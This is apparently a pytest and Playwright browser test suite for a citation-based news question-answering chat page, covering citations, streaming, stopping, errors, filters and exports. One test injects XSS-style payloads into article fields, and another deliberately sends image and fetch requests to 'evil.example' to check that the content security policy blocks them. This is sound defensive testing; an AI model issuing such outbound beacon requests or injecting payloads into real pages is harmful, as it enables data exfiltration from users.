"""The chat as a reader meets it: a real browser, a real server, a scripted assistant."""

import json
import re
import shutil
import threading
from contextlib import contextmanager
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
import scripted
from conftest import missing
from scripted import FERRY, ScriptedAssistant, ScriptedError
from test_ui_render import PAYLOADS, poisoned

from rag.standing import Standing
from ui import web

pytestmark = pytest.mark.browser

QUESTION = "How many seafarers walked out?"
SIZES = {"wide": (1280, 860), "narrow": (390, 844)}
# An element of a payload that came alive would call this, or ask another host for something.
ALARM = "window.alert = () => { window.alarmed = true; }"


@pytest.fixture(scope="module")
def browser():
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        missing("No chromium on the PATH: install Debian's chromium package, or Chromium.")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture
def visit(browser):
    """Return a function that serves an assistant and opens its page; foreign requests fail."""
    closing = []

    def open_page(assistant, *, examples=(), size="wide", scheme="light"):
        served = web.build(assistant, examples=examples)
        _, url, _ = served.launch(**web.launch_options())
        closing.append(lambda: served.close(verbose=False))
        width, height = SIZES[size]
        context = browser.new_context(
            viewport={"width": width, "height": height}, color_scheme=scheme
        )
        closing.append(context.close)
        context.grant_permissions(["clipboard-read", "clipboard-write"])
        context.add_init_script(ALARM)
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.hosts = set()
        page.on("request", lambda request: page.hosts.add(urlsplit(request.url).netloc))
        page.goto(url)
        page.get_by_role("textbox", name="Your question").wait_for()
        return page

    yield open_page
    for close in reversed(closing):
        close()


@contextmanager
def only_own_host(page):
    yield
    own = urlsplit(page.url).netloc
    assert page.hosts <= {own, ""}, page.hosts


def ask(page, text=QUESTION):
    page.get_by_role("textbox", name="Your question").fill(text)
    page.keyboard.press("Enter")


def finished(page):
    page.locator("#dl-live [data-progress=finished]").wait_for()


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_click_on_a_citation_shows_its_sentence(visit, size, scheme):
    page = visit(ScriptedAssistant(), size=size, scheme=scheme)
    with only_own_host(page):
        ask(page)
        finished(page)
        page.locator("#dl-live .dl-cite").first.click()
        mark = page.locator("#dl-reader mark")
        mark.wait_for()
        assert mark.inner_text() == scripted.JOINED
        page.wait_for_function(
            """() => { const box = document.querySelector('#dl-reader mark')
                 .getBoundingClientRect();
                 return box.top >= 0 && box.bottom <= window.innerHeight; }"""
        )
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    background = page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (max(map(int, re.findall(r"\d+", background)[:3])) < 80) is (scheme == "dark")


def test_a_citation_far_down_a_long_article_is_scrolled_to(visit):
    padding = "\n\n".join(f"Paragraph {n} says nothing new." for n in range(200))
    text = f"{padding}\n\n{FERRY.text}\n\n{padding}"
    long = replace(FERRY, text=text)
    answer = scripted.scripted(QUESTION)
    moved = scripted.citation(1, long, scripted.JOINED)
    answer = replace(answer, citations=(moved, *answer.citations[1:]))
    page = visit(ScriptedAssistant(prepared=answer, articles=(long, *scripted.ARTICLES[1:])))
    ask(page)
    finished(page)
    page.locator("#dl-live .dl-cite").first.scroll_into_view_if_needed()  # as a click does
    top = page.evaluate("window.scrollY")
    page.locator("#dl-live .dl-cite").first.click()
    page.wait_for_function(
        """() => { const box = document.querySelector('#dl-reader mark')?.getBoundingClientRect();
             return box && box.top >= 0 && box.bottom <= window.innerHeight; }"""
    )
    assert page.evaluate("window.scrollY") == top
    page.evaluate("document.querySelector('#dl-reader').scrollTo(0, 0)")
    page.locator("#dl-live .dl-cite").first.click()
    page.wait_for_function(
        "document.querySelector('#dl-reader mark').getBoundingClientRect().top <= innerHeight"
    )


@pytest.mark.parametrize("size", SIZES)
def test_a_citation_whose_article_went_says_so_when_it_is_opened_again(visit, size):
    assistant = ScriptedAssistant()
    page = visit(assistant, size=size)
    ask(page)
    finished(page)
    page.locator("#dl-live .dl-cite").first.click()
    page.locator("#dl-reader mark").wait_for()
    assert page.locator("#dl-reader .dl-outdated-note").count() == 0
    gone = Standing(scripted.citation(1, FERRY, scripted.JOINED), "withdrawn", since="2024-05-21")
    assistant.fates[1] = gone
    page.locator("#dl-live .dl-cite").first.click()
    note = page.locator("#dl-reader .dl-outdated-note")
    note.wait_for()
    assert "noticed on 21 May 2024" in note.inner_text()
    assert scripted.JOINED in note.inner_text()
    assert page.locator("#dl-reader mark").count() == 0
    page.wait_for_function("document.activeElement.classList.contains('dl-outdated-note')")
    ask(page, "And the islands?")
    log = page.locator("#dl-log")
    log.locator(".dl-cite.dl-outdated").first.wait_for()
    assert log.locator(".dl-cite.dl-outdated").count() == 2  # in the text and in the table
    assert "ithdrawn: the article is gone" in log.locator(".dl-fate").inner_text()
    assert log.get_by_text("What is cited here has changed since").count() == 1


def test_the_keyboard_opens_a_citation_and_comes_back(visit):
    page = visit(ScriptedAssistant())
    ask(page)
    finished(page)
    marker = page.locator("#dl-live .dl-cite").nth(1)
    marker.focus()
    page.keyboard.press("Enter")
    page.locator("#dl-reader mark").wait_for()
    page.wait_for_function("document.activeElement.tagName === 'MARK'")
    page.keyboard.press("Escape")
    page.wait_for_function("document.activeElement.textContent === '[2]'")


def test_hovering_a_citation_shows_its_quote(visit):
    page = visit(ScriptedAssistant())
    ask(page)
    finished(page)
    page.locator("#dl-live .dl-cite").nth(1).hover()
    tip = page.get_by_role("tooltip")
    tip.wait_for()
    assert scripted.COUNTED in tip.inner_text()
    assert "Coastal Wire, 14 May 2024" in tip.inner_text()


def test_quotes_are_on_screen_before_a_word_is_written_and_sentences_stream_in(visit):
    gates = (threading.Event(), threading.Event())
    page = visit(ScriptedAssistant(gates=gates))
    ask(page)
    live = page.locator("#dl-live")
    live.get_by_text(scripted.COUNTED).wait_for()
    assert live.locator(".dl-claim").count() == 0
    gates[0].set()
    live.locator(".dl-claim").first.wait_for()
    assert live.locator(".dl-claim").count() == 1
    gates[1].set()
    finished(page)
    assert live.locator(".dl-claim").count() == 2
    assert "Articles disagree" in live.locator(".dl-badge").inner_text()


def test_stop_ends_the_work_keeps_what_was_checked_and_lets_the_next_question_in(visit):
    gates = (threading.Event(), threading.Event())
    assistant = ScriptedAssistant(gates=gates)
    page = visit(assistant)
    ask(page)
    gates[0].set()
    page.locator("#dl-live .dl-claim").first.wait_for()
    page.get_by_role("button", name="Stop").click()
    # The page says so at once, even while the model is still busy with its next word.
    page.locator("#dl-live [data-progress=stopped]").wait_for()
    gates[1].set()
    assert assistant.stopped.wait(timeout=20)
    assert page.locator("#dl-live .dl-claim").count() == 1
    ask(page, "How did the strike affect the islands?")
    finished(page)
    assert assistant.n_stopped == 1
    assert [turn.question for turn in assistant.asked[-1].history] == [QUESTION]


def test_leaving_the_page_ends_the_work(visit):
    assistant = ScriptedAssistant(endless=True)
    page = visit(assistant)
    ask(page)
    page.locator("#dl-live .dl-claim").nth(2).wait_for()
    page.close()
    assert assistant.stopped.wait(timeout=20)


def test_an_error_is_one_line_and_the_conversation_goes_on(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant)
    ask(page)
    finished(page)
    assistant.error = ScriptedError("The language model does not answer: try again.")
    ask(page, "And the islands?")
    page.get_by_text("The language model does not answer: try again.").wait_for()
    assert page.locator("#dl-log").get_by_text(QUESTION).count() == 1
    assistant.error = None
    ask(page, "And the tickets?")
    finished(page)
    assert page.locator(".dl-turn").count() == 3


def test_a_question_of_five_megabytes_is_refused_in_words_and_kept(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant)
    page.evaluate(
        """() => { const box = document.querySelector('#dl-question textarea');
             box.value = 'a'.repeat(5_000_000);
             box.dispatchEvent(new Event('input', {bubbles: true})); }"""
    )
    page.get_by_role("button", name="Ask", exact=True).click()
    page.get_by_text("The question has 5,000,000 characters").wait_for()
    assert (
        page.evaluate("document.querySelector('#dl-question textarea').value.length") == 5_000_000
    )
    assert assistant.asked == []


def test_filters_are_sent_and_a_wrong_date_is_explained(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant)
    page.get_by_role("button", name="Filters").click()
    page.get_by_label("Published from").fill("13 May")
    ask(page)
    page.get_by_text('Published from is "13 May"').wait_for()
    assert page.get_by_role("textbox", name="Your question").input_value() == QUESTION
    page.get_by_label("Published from").fill("2024-05-01")
    page.get_by_label("As of").fill("2024-05-31")
    page.get_by_label("Quotes only, no language model").check()
    page.get_by_label("Outlets").click()
    page.get_by_role("option", name="Coastal Wire").click()
    ask(page)
    finished(page)
    assert assistant.asked[-1].filters.date_from == "2024-05-01"
    assert assistant.asked[-1].filters.sources == ("Coastal Wire",)
    assert assistant.asked[-1].as_of == "2024-05-31"
    assert assistant.extractive == [True]


def test_an_example_is_asked_with_one_click_and_a_new_conversation_forgets(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant, examples=(QUESTION, "What did the mayor say?"))
    page.get_by_role("button", name="What did the mayor say?").click()
    finished(page)
    page.get_by_text("No article in this folder says this.").wait_for()
    page.get_by_role("button", name="New conversation").click()
    page.get_by_role("button", name=QUESTION).wait_for()
    assert page.locator(".dl-turn").count() == 0
    page.get_by_role("button", name=QUESTION).click()
    finished(page)
    assert assistant.asked[-1].history == ()


def test_the_answer_can_be_copied_and_saved(visit):
    page = visit(ScriptedAssistant())
    ask(page)
    finished(page)
    page.get_by_role("button", name="Copy", exact=True).click()
    page.get_by_role("button", name="Copied").wait_for()
    copied = page.evaluate("navigator.clipboard.readText()")
    assert scripted.JOINED in copied
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save JSON").click()
    assert saved.value.suggested_filename.endswith(".json")
    content = json.loads(saved.value.path().read_text("utf-8"))
    assert content["citations"][0]["quote"] == scripted.JOINED
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save Markdown").click()
    assert saved.value.path().read_text("utf-8").startswith("# How many seafarers")


def test_the_understood_question_can_be_edited(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant)
    ask(page)
    finished(page)
    ask(page, "And the islands?")
    finished(page)
    page.locator("#dl-live .dl-edit").click()
    box = page.get_by_role("textbox", name="Your question")
    assert box.input_value() == "And the islands? → And the islands? (at Marlow harbour)"
    box.fill("And the islands? → What do the islands lack?")
    box.press("Enter")
    # The answer before this one is finished as well: wait for the new wording.
    lack = page.locator("#dl-live .dl-understood", has_text="What do the islands lack?")
    lack.wait_for()
    finished(page)
    assert (assistant.asked[-1].text, assistant.asked[-1].standalone) == (
        "And the islands?",
        "What do the islands lack?",
    )
    assert page.locator("#dl-live .dl-question").inner_text() == "And the islands?"
    assert lack.is_visible()


def test_no_article_makes_the_browser_call_out_or_run_anything(visit):
    assistant = ScriptedAssistant()
    page = visit(assistant)
    alive = page.locator(":is(#dl-log, #dl-live, #dl-reader) :is(img, iframe, form, svg, script)")
    with only_own_host(page):
        for n, payload in enumerate(PAYLOADS):
            fields = dict.fromkeys(("text", "title", "source", "name"), payload)
            answer = replace(poisoned(payload), status="conflicting")
            quote = replace(answer.citations[0], article_id=FERRY.id, start=0, end=len(payload))
            assistant.prepared = replace(answer, citations=(quote,), near_misses=(quote,))
            assistant.articles = (replace(FERRY, **fields),)
            assistant.notices = (payload, f"Payload {n}")
            ask(page, payload)
            page.locator("#dl-live [data-progress=finished]", has_text=f"Payload {n}").wait_for()
            page.locator("#dl-live .dl-cite").first.hover()
            page.locator("#dl-live .dl-cite").first.click()
            page.locator("#dl-reader mark").first.wait_for()
            assert not page.evaluate("window.alarmed === true")
            assert alive.count() == 0


def test_the_policy_stops_what_markup_would_let_through(visit):
    page = visit(ScriptedAssistant())
    blocked = page.evaluate(
        """() => new Promise((done) => {
             const blocked = [];
             document.addEventListener('securitypolicyviolation', (violation) => {
               blocked.push(violation.effectiveDirective);
               if (blocked.length === 2) done(blocked.sort());
             });
             new Image().src = 'https://evil.example/?d=1';
             fetch('https://evil.example/').catch(() => null); })"""
    )
    assert blocked == ["connect-src", "img-src"]


def test_two_readers_see_only_their_own_conversation(visit, browser):
    page = visit(ScriptedAssistant())
    ask(page)
    finished(page)
    other = browser.new_page()
    other.goto(page.url)
    other.get_by_role("textbox", name="Your question").wait_for()
    assert other.locator(".dl-turn").count() == 0
    ask(other, "What did the mayor say?")
    finished(other)
    assert other.get_by_text(QUESTION).count() == 0
    assert page.get_by_text("mayor").count() == 0
    other.close()
